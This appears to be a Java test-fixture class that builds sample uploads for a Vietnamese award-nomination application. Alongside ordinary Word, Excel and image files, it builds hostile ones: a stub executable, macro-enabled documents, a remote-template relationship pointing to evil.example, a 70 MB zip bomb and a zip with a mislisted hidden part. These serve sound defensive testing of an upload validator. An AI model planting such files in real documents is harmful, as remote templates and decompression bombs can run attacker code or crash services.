package vn.vinhdanh.nomination;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.poi.common.usermodel.PictureType;
import org.apache.poi.openxml4j.exceptions.InvalidFormatException;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTStyles;

/** Evidence of all kinds, good and bad. */
public final class SampleFiles {

    private static final String MAIN = "wordprocessingml.document.main+xml";
    private static final int PAPER = 0xfdf6e3;

    private SampleFiles() {}

    /** A report with a heading, a paragraph that looks like mark-up, and a table. */
    public static byte[] docx() {
        return made(out -> {
            try (var document = new XWPFDocument()) {
                document.createStyles().setStyles(headingStyle());
                var heading = document.createParagraph();
                heading.setStyle("u1");
                heading.createRun().setText("Báo cáo thành tích");
                document.createParagraph().createRun().setText("Đã vượt kế hoạch <b>12%</b> & được khen.");
                var table = document.createTable(2, 2);
                table.getRow(0).getCell(0).setText("Năm");
                table.getRow(0).getCell(1).setText("Sáng kiến");
                table.getRow(1).getCell(0).setText("2014");
                table.getRow(1).getCell(1).setText("Số hóa hồ sơ");
                document.write(out);
            }
        });
    }

    /** Word in Vietnamese calls the style of the first heading u1; its name is the same everywhere. */
    private static CTStyles headingStyle() {
        var styles = CTStyles.Factory.newInstance();
        var style = styles.addNewStyle();
        style.setStyleId("u1");
        style.addNewName().setVal("heading 1");
        return styles;
    }

    public static byte[] xlsx() {
        return xlsx(2);
    }

    /** A table of scores under a heading, with a formula that Excel has calculated. */
    public static byte[] xlsx(int rows) {
        return made(out -> {
            try (var workbook = new XSSFWorkbook()) {
                var sheet = workbook.createSheet("Chấm điểm");
                var heading = sheet.createRow(0);
                heading.createCell(0).setCellValue("Tiêu chí");
                heading.createCell(1).setCellValue("Điểm <tối đa>");
                for (var number = 1; number < rows; number++) {
                    var row = sheet.createRow(number);
                    row.createCell(0).setCellValue("Tiêu chí " + number);
                    row.createCell(1).setCellFormula("40+2");
                    row.getCell(1).setCellValue(42);
                }
                workbook.write(out);
            }
        });
    }

    public static byte[] png() {
        return picture("png", 320, 200);
    }

    public static byte[] jpg() {
        return picture("jpg", 320, 200);
    }

    static byte[] picture(String format, int width, int height) {
        return made(out -> {
            var picture = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
            var pen = picture.createGraphics();
            pen.setColor(new Color(PAPER));
            pen.fillRect(0, 0, width, height);
            pen.setColor(Color.RED);
            pen.fillOval(width / 4, height / 4, width / 2, height / 2);
            pen.dispose();
            ImageIO.write(picture, format, out);
        });
    }

    /** A document with a scan of so many bytes, which no packing makes smaller. */
    public static byte[] large(int bytes) {
        var noise = new byte[bytes];
        new Random(bytes).nextBytes(noise);
        return made(out -> {
            try (var document = new XWPFDocument()) {
                document.createParagraph().createRun().setText("Bản quét");
                document.addPictureData(noise, PictureType.JPEG);
                document.write(out);
            } catch (InvalidFormatException impossible) {
                throw new IOException(impossible);
            }
        });
    }

    /** A program, whatever it is called. */
    static byte[] exe() {
        var program = new byte[2_000];
        System.arraycopy("MZ\u0090\0\u0003".getBytes(StandardCharsets.ISO_8859_1), 0, program, 0, 5);
        return program;
    }

    /** A document with macros, as Word saves it under .docm. */
    static byte[] docm() {
        return withMainType("application/vnd.ms-word.document.macroEnabled.main+xml");
    }

    static byte[] docxWithProgram() {
        return withPart(docx(), "word/vbaProject.bin", new byte[] {1});
    }

    static byte[] docxFetchingATemplate() {
        var link = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                + " Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                + " Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
        return withPart(docx(), "word/_rels/settings.xml.rels", link.getBytes(StandardCharsets.UTF_8));
    }

    /** A few kilobytes that unpack to more than a memory holds. */
    static byte[] bomb() {
        return withPart(docx(), "word/media/image1.png", new byte[70 * 1024 * 1024]);
    }

    /** A part that only those see who read the file from its front. */
    static byte[] docxWithAHiddenPart() {
        var open = withPart(docx(), "word/media/image1.png", new byte[10]);
        var text = new String(open, StandardCharsets.ISO_8859_1);
        var listed = text.lastIndexOf("image1.png");
        return (text.substring(0, listed) + "imageX.png" + text.substring(listed + "imageX.png".length()))
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] withMainType(String type) {
        return rewritten(
                docx(),
                (name, content) -> name.equals("[Content_Types].xml")
                        ? new String(content, StandardCharsets.UTF_8)
                                .replace("application/vnd.openxmlformats-officedocument." + MAIN, type)
                                .getBytes(StandardCharsets.UTF_8)
                        : content);
    }

    static byte[] withPart(byte[] file, String name, byte[] content) {
        return made(out -> {
            try (var zip = new ZipOutputStream(out)) {
                copy(file, zip, (part, bytes) -> bytes);
                zip.putNextEntry(new ZipEntry(name));
                zip.write(content);
            }
        });
    }

    private static byte[] rewritten(byte[] file, Rewriting rewriting) {
        return made(out -> {
            try (var zip = new ZipOutputStream(out)) {
                copy(file, zip, rewriting);
            }
        });
    }

    private static void copy(byte[] file, ZipOutputStream out, Rewriting rewriting) throws IOException {
        try (var parts = new ZipInputStream(new ByteArrayInputStream(file))) {
            for (var part = parts.getNextEntry(); part != null; part = parts.getNextEntry()) {
                out.putNextEntry(new ZipEntry(part.getName()));
                out.write(rewriting.of(part.getName(), parts.readAllBytes()));
            }
        }
    }

    private static byte[] made(Making making) {
        try (var out = new ByteArrayOutputStream()) {
            making.make(out);
            return out.toByteArray();
        } catch (IOException failure) {
            throw new UncheckedIOException(failure);
        }
    }

    private interface Making {
        void make(ByteArrayOutputStream out) throws IOException;
    }

    private interface Rewriting {
        byte[] of(String name, byte[] content);
    }
}
